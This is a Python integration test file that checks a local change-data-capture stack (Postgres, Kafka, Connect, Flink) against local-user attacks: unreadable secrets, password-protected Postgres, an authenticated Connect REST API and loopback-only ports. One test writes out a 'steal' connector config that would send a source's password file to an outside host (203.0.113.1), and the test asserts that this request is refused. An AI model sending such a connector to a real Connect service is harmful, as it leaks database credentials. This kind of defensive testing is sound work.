"""The local stack is not open to every local user (issue 13 items 3-4).

Against the running stack (real Postgres, Kafka, Connect, Flink), each attack the issue lists:
- a local user connects to the stack's Postgres as superuser: refused without the password
  (scram-sha-256), shown as a second OS user created here;
- a local user reads the state folder (Kafka's data = every mirrored row, the secrets):
  refused, shown as that same user;
- a local user registers a connector that reads a source's password file through Connect's
  REST API: every request without credentials is refused (401);
- Flink's REST API and SQL Gateway listen on loopback only;
- `cdc stack status --json` names the password file, never the password.
"""

from __future__ import annotations

import ipaddress
import json
import os
import pwd
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import psycopg
import pytest
import requests

from cdc.core import stack_secrets
from cdc.core.settings import Settings
from cdc.stack.components import postgres_bin_dir

pytestmark = pytest.mark.integration

OTHER_USER = "cdcprobe"
RUNUSER = shutil.which("runuser") or "/usr/sbin/runuser"


@pytest.fixture(scope="module")
def other_user() -> str:
    """A second, unprivileged local OS user (created once, left for later runs)."""
    if os.geteuid() != 0:
        if os.environ.get("CI"):
            pytest.fail("this test creates an OS user and must run as root in CI")
        pytest.skip("creating a second OS user needs root")
    try:
        pwd.getpwnam(OTHER_USER)
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", OTHER_USER],
                       check=True, capture_output=True)
    return OTHER_USER


def _as(user: str, *cmd: str) -> subprocess.CompletedProcess:
    return subprocess.run([RUNUSER, "-u", user, "--", *cmd], capture_output=True, text=True, timeout=60,
                          env={"PATH": "/usr/bin:/bin", "HOME": "/"})


def test_second_user_cannot_read_the_state_folder(stack: dict, settings: Settings, other_user: str) -> None:
    state = settings.state_dir
    targets = [state, state / "secrets" / "postgres.pgpass", state / "secrets" / "connect-users.properties",
               state / "kafka" / "data" / "meta.properties", state / "connect" / "worker.properties",
               state / "logs" / "connect.log"]
    for t in targets:
        assert t.exists(), t
        r = _as(other_user, "cat" if t.is_file() else "ls", str(t))
        assert r.returncode != 0 and "Permission denied" in r.stderr, (t, r.returncode, r.stdout[:200], r.stderr)
    # nothing below the folder keeps group/other bits (the folder itself is 0700, or 0710
    # group postgres as root so the `postgres` OS user can reach its data directory)
    mode = stat.S_IMODE(state.stat().st_mode)
    assert mode in (0o700, 0o710) and not mode & 0o007, oct(mode)
    loose = [str(p) for p in state.rglob("*")
             if not p.is_symlink() and not p.is_socket() and stat.S_IMODE(p.lstat().st_mode) & 0o077]
    assert not loose, loose[:10]


def test_second_user_cannot_connect_to_postgres_without_the_password(stack: dict, settings: Settings,
                                                                      other_user: str) -> None:
    psql = str(postgres_bin_dir(settings).parent / "bin" / "psql")
    if not Path(psql).exists():
        psql = "/usr/bin/psql"
    common = ["-h", settings.host, "-p", str(settings.ports.postgres), "-U", "postgres", "-w", "-At", "-c",
              "select current_user"]
    r = _as(other_user, psql, *common)
    assert r.returncode != 0 and "no password supplied" in r.stderr, (r.returncode, r.stdout, r.stderr)
    r = subprocess.run([RUNUSER, "-u", other_user, "--", psql, *common], capture_output=True, text=True,
                       env={"PATH": "/usr/bin:/bin", "HOME": "/", "PGPASSWORD": "guess"}, timeout=60)
    assert r.returncode != 0 and "password authentication failed" in r.stderr, (r.returncode, r.stderr)
    # the control service, with the password file, gets in (the check above can pass only
    # because authentication is required, not because the server is down)
    with psycopg.connect(settings.local_postgres_dsn, connect_timeout=5) as conn:
        assert conn.execute("select current_user").fetchone() == ("postgres",)
    hba = conn_rules(settings)
    assert hba and all(method == "scram-sha-256" for _type, method in hba), hba


def conn_rules(settings: Settings) -> list[tuple[str, str]]:
    with psycopg.connect(settings.local_postgres_dsn) as conn:
        return [(t, m) for t, m in conn.execute("select type, auth_method from pg_hba_file_rules "
                                                "where error is null").fetchall()]


def test_connect_rest_api_requires_credentials(stack: dict, settings: Settings) -> None:
    url = settings.connect_url
    assert requests.get(f"{url}/connectors", timeout=10).status_code == 401
    assert requests.get(f"{url}/connector-plugins", timeout=10).status_code == 401
    # the attack: a connector that would hand a source's password file to a host of one's choice
    secret_ref = "${file:" + str(settings.state_dir / "secrets" / "default.properties") + ":password}"
    attack = {"name": "steal", "config": {"connector.class": "io.debezium.connector.postgresql.PostgresConnector",
                                          "database.hostname": "203.0.113.1", "database.password": secret_ref}}
    r = requests.post(f"{url}/connectors", json=attack, timeout=10)
    assert r.status_code == 401, r.text
    assert requests.get(f"{url}/connectors", timeout=10, auth=("cdc", "wrong")).status_code == 401
    ok = requests.get(f"{url}/connectors", timeout=10, auth=settings.connect_auth())
    assert ok.status_code == 200 and "steal" not in ok.json(), ok.text


def _listeners() -> dict[int, set[str]]:
    """Listening TCP sockets from /proc/net/tcp{,6}: port -> local addresses."""
    out: dict[int, set[str]] = {}
    for f in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(f).read_text().splitlines()[1:]:
            parts = line.split()
            if parts[3] != "0A":       # LISTEN
                continue
            addr, port = parts[1].split(":")
            # 32-bit words in host (little-endian) byte order
            raw = b"".join(bytes.fromhex(addr[i:i + 8])[::-1] for i in range(0, len(addr), 8))
            ip = ipaddress.ip_address(raw)
            if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped:
                ip = ip.ipv4_mapped
            a = str(ip)
            out.setdefault(int(port, 16), set()).add(a)
    return out


def test_flink_and_every_stack_port_listen_on_loopback_only(stack: dict, settings: Settings) -> None:
    listening = _listeners()
    ports = {"flink_rest": settings.ports.flink_rest, "sql_gateway": settings.ports.sql_gateway,
             "connect": settings.ports.connect, "kafka": settings.ports.kafka, "postgres": settings.ports.postgres}
    for name, port in ports.items():
        assert port in listening, f"{name} ({port}) is not listening"
        assert listening[port] <= {"127.0.0.1", "::1"}, (name, port, listening[port])


def test_stack_status_names_the_password_file_not_the_password(stack: dict, settings: Settings) -> None:
    r = subprocess.run([sys.executable, "-m", "cdc.cli", "stack", "status", "--json"], capture_output=True,
                       text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    text = r.stdout + r.stderr
    for secret in (stack_secrets.postgres_password(settings.state_dir), stack_secrets.connect_password(settings.state_dir)):
        assert secret and secret not in text
    dsn = json.loads(r.stdout)["endpoints"]["postgres_dsn"]
    assert "passfile=" in dsn and str(stack_secrets.postgres_passfile(settings.state_dir)) in dsn, dsn
    # and the processes' arguments carry no password either
    for secret in (stack_secrets.postgres_password(settings.state_dir), stack_secrets.connect_password(settings.state_dir)):
        for proc in Path("/proc").iterdir():
            if proc.name.isdigit():
                try:
                    assert secret.encode() not in (proc / "cmdline").read_bytes(), proc
                except OSError:
                    pass
